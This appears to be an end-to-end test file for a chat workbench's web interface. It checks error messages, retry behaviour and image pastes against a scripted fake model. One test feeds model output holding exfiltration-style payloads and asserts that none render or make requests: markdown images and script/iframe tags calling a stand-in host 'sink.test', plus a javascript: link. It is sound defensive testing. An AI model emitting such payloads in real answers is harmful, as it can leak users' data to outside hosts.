import type { Step } from '../bench/fake-model/script.ts'
import { expect, test } from './fixtures/tandem.ts'
import { ask, chat, message, rule } from './fixtures/workbench.ts'

const failing: { name: string; step: Step; says: string | RegExp }[] = [
  {
    name: 'a wrong key',
    step: {
      type: 'fault',
      fault: { type: 'status', status: 401, body: { error: { message: 'Incorrect API key' } } },
    },
    says: 'The backend refused the key.',
  },
  {
    name: 'a context overflow',
    step: { type: 'fault', fault: { type: 'failed', code: 'context_length_exceeded', message: 'too long' } },
    says: 'no longer fits the model’s window',
  },
  {
    name: 'a 429 that asks for an hour',
    step: {
      type: 'fault',
      fault: {
        type: 'status',
        status: 429,
        headers: { 'retry-after': '3600' },
        body: { error: { message: 'slow down' } },
      },
    },
    says: 'The backend limits how often',
  },
]

for (const { name, step, says } of failing) {
  test(`[WEB-14] ${name} ends the turn with a sentence to act on, and Retry goes on`, async ({
    page,
    model,
  }) => {
    model.script = [rule('hello', [step])]
    await ask(page, 'hello')
    await expect(chat(page)).toContainText(says)
    model.script = () => [{ type: 'text', text: 'Hello again.' }]
    await page.getByRole('button', { name: 'Retry' }).click()
    await expect(chat(page)).toContainText('Hello again.')
  })
}

test('[WEB-15] a cut after the first token keeps what was shown and offers to go on', async ({
  page,
  model,
}) => {
  model.script = [
    rule('hello', [
      { type: 'text', text: 'Half an answer' },
      { type: 'fault', fault: { type: 'cut' } },
    ]),
  ]
  await ask(page, 'hello')
  await expect(chat(page)).toContainText('Half an answer')
  await expect(chat(page)).toContainText('The connection to the model broke.')
  await expect(page.getByRole('button', { name: 'Retry' })).toBeVisible()
})

test('[WEB-16] an overload before the first token is tried again by itself', async ({ page, model }) => {
  let calls = 0
  model.script = () =>
    ++calls === 1
      ? [
          {
            type: 'fault',
            fault: { type: 'failed', code: 'rate_limit_exceeded', message: 'try again in 0.2s' },
          },
        ]
      : [{ type: 'text', text: 'Here I am.' }]
  await ask(page, 'hello')
  await expect(chat(page)).toContainText('Here I am.')
})

test('[WEB-17] model text loads nothing from anywhere and shows where links lead', async ({
  page,
  model,
  foreignRequests,
}) => {
  const text = [
    '![secret](https://sink.test/?d=1)',
    '<img src="https://sink.test/raw"> <script>fetch("https://sink.test/s")</script> <iframe src="https://sink.test/f"></iframe>',
    '![ref][r] [click me](https://link.test/page) [bad](javascript:alert(1)) [data](data:text/html,x)',
    '',
    '[r]: https://sink.test/ref.png',
  ].join('\n')
  model.script = [rule('show', [{ type: 'text', text, tokensPerSecond: 400 }])]
  await ask(page, 'show')
  await expect(chat(page)).toContainText('Done')
  await expect(chat(page)).toContainText('link.test')
  const answers = page.getByRole('log', { name: 'Conversation' })
  expect(await answers.locator('img, iframe, script, form, object, link, style').count()).toBe(0)
  const links = await chat(page)
    .getByRole('link')
    .evaluateAll((all) => all.map((link) => link.getAttribute('href')))
  expect(links.filter((href) => href && !/^(https?:|mailto:|\/)/.test(href))).toEqual([])
  expect(foreignRequests).toEqual([])
})

test.describe('without a model', () => {
  test.use({
    api: 'none',
    files: {
      'index.html': '<link rel="stylesheet" href="a.css"><button>Go</button>',
      'a.css': 'button {\n  color: red;\n}\n',
    },
  })

  test('[WEB-18] the built-in assistant edits for real and says what it is', async ({ page, tandem }) => {
    await ask(page, 'make the button teal')
    await expect.poll(() => tandem.read('a.css')).toContain('teal')
    await ask(page, 'write me a poem about the sea')
    await expect(chat(page)).toContainText('OPENAI_API_KEY')
  })
})

test('[WEB-19] an image is answered with what the model can take', async ({ page }) => {
  await message(page).click()
  await page.evaluate(() => {
    const data = new DataTransfer()
    data.items.add(new File([new Uint8Array([137, 80, 78, 71])], 'x.png', { type: 'image/png' }))
    document.activeElement?.dispatchEvent(
      new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }),
    )
  })
  await expect(page.getByText('reads text only')).toBeVisible()
})
